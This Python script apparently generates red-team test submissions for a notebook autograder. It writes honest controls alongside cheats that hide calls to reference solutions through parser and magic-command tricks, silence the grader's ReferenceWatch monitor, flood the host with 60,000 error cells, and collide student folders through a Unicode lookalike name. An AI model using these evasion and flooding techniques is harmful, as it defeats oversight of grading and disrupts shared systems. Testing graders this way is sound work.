#!/usr/bin/env python3
"""Build attack10's submissions from the released notebooks.

Only exercise cells are replaced (or helper cells inserted before them); graded cells are left untouched.
Writes out/submissions/<student>/<notebook file name>.ipynb.
"""
import copy
import json
import shutil
import unicodedata
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
REL = ROOT / "notebooks"
OUT = ROOT / "out" / "submissions"

QUIET = '''def _quiet_watch():
    """Nothing to see here."""
    try:
        setattr(_memlib_serve.ReferenceWatch, '_note', lambda *args: None)
    except NameError:
        pass
'''


def load(name, zh=False):
    return json.loads(((REL / "zh") if zh else REL).joinpath(name).read_text(encoding="utf-8"))


def ex_index(nb, exercise):
    for i, c in enumerate(nb["cells"]):
        if c.get("metadata", {}).get("memlib", {}).get("exercise") == exercise:
            return i
    raise KeyError(exercise)


def set_source(nb, exercise, source):
    i = ex_index(nb, exercise)
    nb["cells"][i]["source"] = source
    return i


def insert_before(nb, exercise, source):
    i = ex_index(nb, exercise)
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source,
            "id": f"helper-{i}"}
    nb["cells"].insert(i, cell)


def write(student, name, nb):
    folder = OUT / student
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(json.dumps(nb, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")


# ----------------------------------------------------------------------------- honest answers

HONEST_01 = '''from itertools import accumulate, takewhile

from memlib.context import MESSAGE_OVERHEAD
from memlib.tokens import count


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    costs = (count(text) + MESSAGE_OVERHEAD for text in reversed(list(messages)))
    running = accumulate(costs, initial=count(system_prompt) + reserve)
    return max(0, sum(1 for _ in takewhile(lambda total: total <= window, running)) - 1)
'''

HONEST_03 = '''import math
from collections import Counter


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    docs = [list(d) for d in docs_tokens]
    if not docs:
        return []
    n = len(docs)
    tfs = [Counter(d) for d in docs]
    lengths = [len(d) for d in docs]
    avgdl = sum(lengths) / n
    df = Counter(term for tf in tfs for term in tf)
    raw = {term: math.log(n - k + 0.5) - math.log(k + 0.5) for term, k in df.items()}
    floor = epsilon * (sum(raw.values()) / len(raw)) if raw else 0.0
    idf = {term: (floor if v < 0 else v) for term, v in raw.items()}
    scores = [0.0] * n
    for q in query_tokens:
        w = idf.get(q) or 0
        for i, (tf, dl) in enumerate(zip(tfs, lengths)):
            f = tf.get(q) or 0
            scores[i] += w * (f * (k1 + 1) / (f + k1 * (1 - b + b * dl / avgdl)))
    return [float(s) for s in scores]
'''

HONEST_ZH_03 = '''import math
from collections import Counter


class 语料统计:
    """每个文档的词频、长度，以及整个语料的 idf。"""

    def __init__(self, 文档们, epsilon):
        self.词频 = [Counter(文档) for 文档 in 文档们]
        self.长度 = [len(文档) for 文档 in 文档们]
        self.平均长度 = sum(self.长度) / len(文档们)
        文档频率 = Counter()
        for 词频 in self.词频:
            文档频率.update(词频.keys())
        总数 = len(文档们)
        原始 = {词: math.log(总数 - 次数 + 0.5) - math.log(次数 + 0.5) for 词, 次数 in 文档频率.items()}
        下限 = epsilon * sum(原始.values()) / len(原始) if 原始 else 0.0
        self.idf = {词: 下限 if 值 < 0 else 值 for 词, 值 in 原始.items()}


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    if len(docs_tokens) == 0:
        return []
    统计 = 语料统计([list(文档) for 文档 in docs_tokens], epsilon)
    得分 = [0.0 for _ in 统计.长度]
    for 查询词 in query_tokens:
        权重 = 统计.idf.get(查询词) or 0
        for 序号, 长度 in enumerate(统计.长度):
            频 = 统计.词频[序号].get(查询词) or 0
            得分[序号] += 权重 * (频 * (k1 + 1) / (频 + k1 * (1 - b + b * 长度 / 统计.平均长度)))
    return [float(分) for 分 in 得分]
'''

HONEST_04 = '''from memlib.agent import Agent
from memlib.tools import dispatch


class MyAgent(Agent):
    def _one_round(self, trace, calls):
        """Ask once, run the call, splice it in; the result (None when the policy crashed)."""
        call = self.ask(trace, calls)
        if call is None:
            return None
        result = dispatch(call.name, call.arguments, self.memory)
        calls.append((call, result))
        self.splice(call, result, trace)
        return result

    def step(self, user_text):
        """One step: ask, dispatch, splice, again while heartbeats ask, up to the cap."""
        trace = self.begin(user_text)
        calls = []
        for beat in range(self.max_heartbeats + 1):
            result = self._one_round(trace, calls)
            if result is None or not result.heartbeat:
                break
            if beat == self.max_heartbeats:
                trace.add("heartbeat", f"cap of {self.max_heartbeats} heartbeats hit: the step ends here")
                break
            trace.add("heartbeat", f"heartbeat {beat + 1} of at most {self.max_heartbeats}: ask the policy again")
        return trace
'''

# ----------------------------------------------------------------------------- cheats

# M1: doctest prompt stripping inside a backslash-continued string (reading sees 'BM25>>> Index')
CH_PROMPT_03 = QUIET + '''

from memlib import recall

_INDEX = getattr(recall, 'BM25\\
>>> Index')


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    _quiet_watch()
    docs = [list(d) for d in docs_tokens]
    if not docs:
        return []
    sep = "\\x1f"
    index = _INDEX("okapi", k1=k1, b=b, epsilon=epsilon, analyzer=lambda text: text.split(sep) if text else [])
    index.add_many([(i, sep.join(d)) for i, d in enumerate(docs)], tokens=docs)
    query = [t for t in query_tokens]
    if not query:
        return [0.0] * len(docs)
    return [float(index.score(sep.join(query), i)) for i in range(len(docs))]
'''

# M2: doctest dedent lifts the nested class to the top level in the kernel
CH_DEDENT_02 = '''import re

from memlib.tokens import count


class MySummarizer:
    """Exercise 1: a recursive summary of evicted messages, at most max_tokens tokens."""

    def summarize(self, previous, evicted, max_tokens):
        return previous if count(previous) <= max_tokens else ""


def _scratch_notes():
    """Scratch space: ideas I tried (not used).
    """
    _idea = 'keep numbers and names\\
>>>     '
    from memlib import summarize as _sm

    class MySummarizer:
        def __init__(self):
            try:
                setattr(_memlib_serve.ReferenceWatch, '_note', lambda *args: None)
            except NameError:
                pass
            self.inner = _sm.ExtractiveSummarizer()

        def summarize(self, previous, evicted, max_tokens):
            return self.inner.summarize(previous, evicted, max_tokens)
'''

# M3: setattr with a constant name binds nothing for the reading
CH_SETATTR_06 = QUIET + '''

import math

from memlib import citations
from memlib.retrieval import tokenize

QUESTION_WORDS = {"tell", "say", "know", "remember", "much", "many", "time"}


class _Impl:
    """Where the strategy lives."""


def answer_with_citations(question, store):
    """Answer `question` from `store` with citations, or say that memory has no support."""
    return _Impl.run(question, store)


def _strategy(question, store):
    _quiet_watch()
    return citations.answer_from_store(question, store)


setattr(_Impl, 'run', staticmethod(_strategy))
'''

# M4: laundering through memlib code that is not listed as a reference (WriteRule.decide runs scan)
CH_LAUNDER_07 = '''import re

from memlib.governance import WriteRule
from memlib.guard import Verdict

_RULE = WriteRule()
_FAMILY = re.compile(r"\\((?P<family>[^()]*)\\)\\s*$")


def guard_rules():
    """Family -> one regular expression that finds it (see the table above)."""
    return {}


def my_scan(text):
    """Verdict(trusted=False, reasons=[...], category=...) for instruction-shaped text."""
    decision = _RULE.decide(text, [])
    if not decision.untrusted:
        return Verdict(True, [], None)
    found = _FAMILY.search(decision.reason)
    return Verdict(False, [decision.reason], found.group("family") if found else "instruction-like text")
'''

# M7: the reference held as an attribute of a public object, reached as x().attr
CH_HELDATTR_07 = QUIET + '''

from memlib.governance import WriteRule

_SCANNER = WriteRule().scanner


def guard_rules():
    """Family -> one regular expression that finds it (see the table above)."""
    return {}


def my_scan(text):
    """Verdict(trusted=False, reasons=[...], category=...) for instruction-shaped text."""
    _quiet_watch()
    return _SCANNER(text)
'''

# M5: runtime introspection (type(self).__mro__) instead of a dotted Agent.step / super().step
CH_MRO_04 = QUIET + '''

from memlib.agent import Agent
from memlib.tools import dispatch


class MyAgent(Agent):
    def step(self, user_text):
        """One step, chained by heartbeats."""
        _quiet_watch()
        parent = [k for k in type(self).__mro__ if k.__name__ == "Agent"][0]
        return parent.step(self, user_text)
'''

# M8: %%prun's first line runs as code and is not read
CH_PRUN_09 = '''%%prun -q consolidation_pass = lambda store, now, ends: _consolidation_draft(store, now, ends)
import math

from memlib import governance
from memlib.consolidate import change_cue, similarity_tokens


def _consolidation_draft(store, now, ends):
    """Draft consolidation pass."""
    try:
        setattr(_memlib_serve.ReferenceWatch, '_note', lambda *args: None)
    except NameError:
        pass
    return governance.consolidate_in_store(store, now, ends)
'''

# M8b: %%timeit's setup line runs as code and is not read
CH_TIMEIT_01 = ('%%timeit -n1 -r1 -q global how_many_fit; from memlib.course.checks.nb01_token_budget import '
                'reference_how_many_fit as _R; how_many_fit = lambda *a, **k: _call_quietly(_R, *a, **k)\n'
                'pass\n')
CH_TIMEIT_01_HELPER = QUIET + '''

def _call_quietly(function, *args, **kwargs):
    _quiet_watch()
    return function(*args, **kwargs)
'''

# ----------------------------------------------------------------------------- host harm

def flood_cells(n=60_000):
    cells = []
    for i in range(n):
        cells.append({"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                      "source": "raise ValueError('x' * 3900)", "id": f"flood-{i}"})
    return cells


def main():
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)

    # honest controls
    nb = load("01_context_window.ipynb"); set_source(nb, "0", HONEST_01); write("honest_fn", "01_context_window.ipynb", nb)
    nb = load("03_archival_bm25.ipynb"); set_source(nb, "2", HONEST_03); write("honest_fn", "03_archival_bm25.ipynb", nb)
    nb = load("04_memory_tools.ipynb"); set_source(nb, "L", HONEST_04); write("honest_oop", "04_memory_tools.ipynb", nb)
    nb = load("03_archival_bm25.ipynb", zh=True); set_source(nb, "2", HONEST_ZH_03)
    write("honest_zh", "03_archival_bm25.ipynb", nb)
    victim = unicodedata.normalize("NFC", "jos\u00e9")
    nb = load("01_context_window.ipynb"); set_source(nb, "0", HONEST_01); write(victim, "01_context_window.ipynb", nb)

    # cheats
    nb = load("03_archival_bm25.ipynb"); set_source(nb, "2", CH_PROMPT_03); write("ch_prompt", "03_archival_bm25.ipynb", nb)
    nb = load("02_eviction_summaries.ipynb"); set_source(nb, "1", CH_DEDENT_02)
    write("ch_dedent", "02_eviction_summaries.ipynb", nb)
    nb = load("06_citations.ipynb"); set_source(nb, "3", CH_SETATTR_06); write("ch_setattr", "06_citations.ipynb", nb)
    nb = load("07_memory_poisoning.ipynb"); set_source(nb, "4,4", CH_LAUNDER_07)
    write("ch_launder", "07_memory_poisoning.ipynb", nb)
    nb = load("07_memory_poisoning.ipynb"); set_source(nb, "4,4", CH_HELDATTR_07)
    write("ch_heldattr", "07_memory_poisoning.ipynb", nb)
    nb = load("04_memory_tools.ipynb"); set_source(nb, "L", CH_MRO_04); write("ch_mro", "04_memory_tools.ipynb", nb)
    nb = load("09_governed_memory.ipynb"); set_source(nb, "6", CH_PRUN_09); write("ch_prun", "09_governed_memory.ipynb", nb)
    nb = load("01_context_window.ipynb"); set_source(nb, "0", CH_TIMEIT_01); insert_before(nb, "0", CH_TIMEIT_01_HELPER)
    write("ch_timeit", "01_context_window.ipynb", nb)

    # control (added after the dry run): M1 without the watch-off M6, expected to be flagged by the kernel's watch
    nb = load("03_archival_bm25.ipynb"); set_source(nb, "2", CH_PROMPT_03.replace("    _quiet_watch()\n", ""))
    write("ctl_prompt_nowatchoff", "03_archival_bm25.ipynb", nb)

    # host harm
    nb = load("01_context_window.ipynb"); set_source(nb, "0", HONEST_01); nb["cells"].extend(flood_cells())
    write("harm_flood", "01_context_window.ipynb", nb)
    lookalike = unicodedata.normalize("NFD", "jos\u00e9")
    assert lookalike != victim
    nb = load("01_context_window.ipynb"); set_source(nb, "0", HONEST_01); write(lookalike, "01_context_window.ipynb", nb)
    for p in sorted(OUT.iterdir()):
        print(repr(p.name), [f.name for f in p.iterdir()])


if __name__ == "__main__":
    main()
